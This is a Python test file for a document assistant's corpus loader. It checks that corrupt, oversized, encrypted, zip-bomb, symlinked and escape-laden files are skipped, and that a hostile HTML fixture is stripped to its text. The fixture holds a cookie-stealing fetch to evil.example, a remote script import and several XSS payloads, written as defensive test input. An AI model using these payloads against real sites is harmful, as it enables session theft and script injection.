"""Bad documents in the corpus: each is skipped with one line naming it; the good ones index."""

from __future__ import annotations

import io
import os
import re
import shutil
import zipfile
from pathlib import Path

import docx
import pytest
from fpdf import FPDF

from assistant.api import Assistant
from assistant.ingest.documents import load_corpus
from assistant.ingest.readers import MAX_DOCUMENT_BYTES
from assistant.store.index import CHUNKS, POINTER, read_index
from tests.conftest import CORPUS

REAL = "001_5829bbf4eab410c7.txt"  # the smallest real document (2 kB)
GOOD_TEXT = {
    "good.pdf": "Bravo vaccines are filled and finished in Dakar for the whole region.",
    "good.docx": "The national regulator inspects the fill-finish site before licensing.",
    "latin1.txt": "Le médicament générique est fabriqué localement à Abidjan.",
    "utf16.txt": "Die Impfstoffe werden in Kigali abgefüllt und verpackt.",
    "hostile.html": "Insulin pens are assembled in Nairobi under licence.",
}

# File -> words its one-line reason must contain.
BAD_REASONS = {
    "empty.txt": "empty",
    "blank.md": "empty",
    "junk.txt": "binary",
    "huge.txt": "too large",
    "corrupt.pdf": "damaged PDF",
    "truncated.pdf": "damaged PDF",
    "locked.pdf": "encrypted",
    "spreadsheet.docx": "not a Word document",
    "photos.docx": "not a Word document",
    "notzip.docx": "not a valid Word document",
}

HOSTILE_HTML = f"""<!doctype html><html><head><title>Hostile page</title>
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
<script type="module">import('https://evil.example/x.js')</script>
<style>body {{ background: url(javascript:alert('style')) }}</style></head>
<body onload="alert('body')">
<p onclick="alert('click')" onmouseover="alert('hover')">{GOOD_TEXT["hostile.html"]}</p>
<img src=x onerror="alert('img')"><a href="javascript:alert('link')">Read the licence terms.</a>
<iframe src="https://evil.example/frame"></iframe><svg onload="alert('svg')"><text>svg</text></svg>
<noscript>Enable scripts to see the payload.</noscript>
<p>Written as text, a tag is harmless: &lt;img src=x onerror=alert(1)&gt;</p>
</body></html>"""


def _pdf(text: str, **encryption: str) -> bytes:
    pdf = FPDF()
    if encryption:
        pdf.set_encryption(**encryption)
    pdf.add_page()
    pdf.set_font("Helvetica", size=12)
    pdf.multi_cell(0, 8, text)
    return bytes(pdf.output())


def _docx(text: str) -> bytes:
    document = docx.Document()
    document.add_heading("Licensing", level=1)
    document.add_paragraph(text)
    buf = io.BytesIO()
    document.save(buf)
    return buf.getvalue()


def _zip(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buf.getvalue()


def write_bad_corpus(folder: Path) -> Path:
    """A real corpus file, good files in every format, and every kind of bad file."""
    shutil.copy(CORPUS / REAL, folder / REAL)
    good_pdf = _pdf(GOOD_TEXT["good.pdf"])
    files = {
        "good.pdf": good_pdf,
        "good.docx": _docx(GOOD_TEXT["good.docx"]),
        "latin1.txt": GOOD_TEXT["latin1.txt"].encode("latin-1"),
        "utf16.txt": GOOD_TEXT["utf16.txt"].encode("utf-16"),
        "hostile.html": HOSTILE_HTML.encode(),
        "empty.txt": b"",
        "blank.md": b"  \n\n\t \n",
        "junk.txt": bytes((i * 131 + 7) % 256 for i in range(20_000)) + b"\x00" * 64,
        "corrupt.pdf": b"%PDF-1.7\n" + bytes((i * 97 + 3) % 256 for i in range(5000)),
        "truncated.pdf": good_pdf[: len(good_pdf) // 2],
        "locked.pdf": _pdf("Confidential prices.", owner_password="o", user_password="u"),
        # Zips that are not Word inside: an Excel workbook and a folder of photos.
        "spreadsheet.docx": _zip(
            {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}
        ),
        "photos.docx": _zip({"IMG_001.jpg": os.urandom(2048), "notes.txt": b"holiday"}),
        "notzip.docx": b"PK\x03\x04 this was never a zip archive",
    }
    for name, data in files.items():
        (folder / name).write_bytes(data)
    # 50 MB of real sentences, over the 20 MB per-document limit.
    sentence = b"Regional manufacturers fill vaccines in sterile rooms. "
    with (folder / "huge.txt").open("wb") as fh:
        block = sentence * (1024 * 1024 // len(sentence))
        for _ in range(50):
            fh.write(block)
    return folder


@pytest.fixture(scope="module")
def bad_corpus(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_bad_corpus(tmp_path_factory.mktemp("bad_corpus"))


def test_each_bad_file_gets_one_line_naming_it_and_why(bad_corpus: Path) -> None:
    corpus = load_corpus(bad_corpus)
    reasons = {p.file: p.reason for p in corpus.problems}
    assert set(reasons) == set(BAD_REASONS)
    for name, words in BAD_REASONS.items():
        reason = reasons[name]
        assert reason.startswith(f"{name}: ") and words in reason, reason
        assert "\n" not in reason and len(reason) < 200 and "Traceback" not in reason
    assert (bad_corpus / "huge.txt").stat().st_size > 2 * MAX_DOCUMENT_BYTES
    assert re.search(r"50\.0 MB; the limit is 20 MB", reasons["huge.txt"])


def test_good_files_of_every_format_and_encoding_load(bad_corpus: Path) -> None:
    docs = {d.doc_id: d for d in load_corpus(bad_corpus).documents}
    assert set(docs) == {REAL, *GOOD_TEXT}
    for name, text in GOOD_TEXT.items():
        assert text in docs[name].text, (name, docs[name].text)


def test_scripts_and_event_handlers_never_become_text(bad_corpus: Path) -> None:
    doc = next(d for d in load_corpus(bad_corpus).documents if d.doc_id == "hostile.html")
    for code in ("alert(", "fetch(", "document.cookie", "import(", "evil.example", "onclick"):
        assert code not in doc.text.replace("onerror=alert(1)", ""), code
    assert "javascript:" not in doc.text and "Enable scripts" not in doc.text
    # Markup written as text in the page is the document's words; the app escapes it.
    assert "<img src=x onerror=alert(1)>" in doc.text
    assert "Read the licence terms." in doc.text


def test_markdown_scripts_are_dropped(tmp_path: Path) -> None:
    path = tmp_path / "note.md"
    path.write_text(
        "# Note\n\nFill-finish in Dakar.\n\n<script>alert('md')</script>\n\n"
        '<SCRIPT type="text/javascript">\nsteal()\n</SCRIPT>\nAfter the script.\n',
        encoding="utf-8",
    )
    (text,) = [d.text for d in load_corpus(tmp_path).documents]
    assert "alert" not in text and "steal" not in text
    assert "Fill-finish in Dakar." in text and "After the script." in text


def test_link_to_a_file_outside_the_corpus_is_refused(tmp_path: Path) -> None:
    outside = tmp_path / "secret.txt"
    outside.write_text("The server password is hunter2.", encoding="utf-8")
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "policy.txt").write_text("Vaccines are filled in Dakar.", encoding="utf-8")
    (corpus / "secret.txt").symlink_to(outside)
    loaded = load_corpus(corpus)
    assert [d.doc_id for d in loaded.documents] == ["policy.txt"]
    assert [p.reason for p in loaded.problems] == [
        "secret.txt: a link to outside the corpus folder"
    ]


def test_zip_bomb_named_docx_is_refused_before_unpacking(tmp_path: Path) -> None:
    # 100 MB of zeros compress to about 100 KB; the declared size gives it away.
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("word/document.xml", b"\x00" * (100 * 1024 * 1024))
    (tmp_path / "bomb.docx").write_bytes(buf.getvalue())
    (problem,) = load_corpus(tmp_path).problems
    assert problem.reason.startswith("bomb.docx: unpacks to more than")


@pytest.mark.slow
def test_bad_files_are_skipped_and_the_good_ones_indexed(
    bad_corpus: Path, tmp_path: Path, embedder
) -> None:
    index_dir = tmp_path / "index"
    bot = Assistant.open(index_dir=index_dir, corpus_dir=bad_corpus, embedder=embedder)
    report = bot.report
    assert set(bot.index.documents) == {REAL, *GOOD_TEXT}
    assert sorted(report.added) == sorted([REAL, *GOOD_TEXT])
    assert sorted(p.split(":")[0] for p in report.problems) == sorted(BAD_REASONS)
    summary = report.summary()
    for name in BAD_REASONS:
        assert f"Skipped {name}: " in summary
    # Every good file is searchable; the hostile page contributes its text and no code.
    for name, text in GOOD_TEXT.items():
        hits = bot.search(text, k=3, documents=[name])
        assert hits and text in hits[0].chunk.text
    all_text = "\n".join(c.text for c in bot.index.chunks)
    assert "document.cookie" not in all_text and "alert('" not in all_text
    # Nothing half-written: one complete build, no temporary folders, corpus untouched.
    entries = sorted(p.name for p in index_dir.iterdir())
    assert entries == sorted([POINTER, ".lock", bot.index.version])
    assert read_index(index_dir).version == bot.index.version
    assert (index_dir / bot.index.version / CHUNKS).stat().st_size > 0
    assert sorted(p.name for p in bad_corpus.iterdir()) == sorted([REAL, *GOOD_TEXT, *BAD_REASONS])


def test_size_limit_is_a_setting(tmp_path: Path, embedder) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "small.txt").write_text("Vaccines are filled in Dakar.", encoding="utf-8")
    (corpus / "medium.txt").write_bytes(b"Regional manufacturers fill vaccines. " * 60_000)
    bot = Assistant.open(
        index_dir=tmp_path / "index", corpus_dir=corpus, embedder=embedder, max_document_mb=1
    )
    assert list(bot.index.documents) == ["small.txt"]
    assert bot.report.problems == [
        "medium.txt: too large (2.2 MB; the limit is 1 MB per document, setting max_document_mb)"
    ]


def test_control_characters_never_reach_the_text(tmp_path: Path) -> None:
    # Terminal escape sequences in a document must not reach `assistant search` output.
    body = "The plant in Dakar ships vaccines to fourteen countries every month. " * 20
    text = "\x1b]0;pwned\x07Vaccines are filled in Dakar.\x1b[2J\x0b\x85" + body + "\x9b31m"
    (tmp_path / "escapes.txt").write_text(text, encoding="utf-8")
    (tmp_path / "controls.txt").write_bytes(bytes(range(1, 32)) * 50)
    loaded = load_corpus(tmp_path)
    (doc,) = loaded.documents
    assert not any((ord(c) < 32 and c != "\n") or 0x7F <= ord(c) <= 0x9F for c in doc.text)
    assert "Vaccines are filled in Dakar." in doc.text
    assert [p.reason for p in loaded.problems] == ["controls.txt: binary data, not text"]
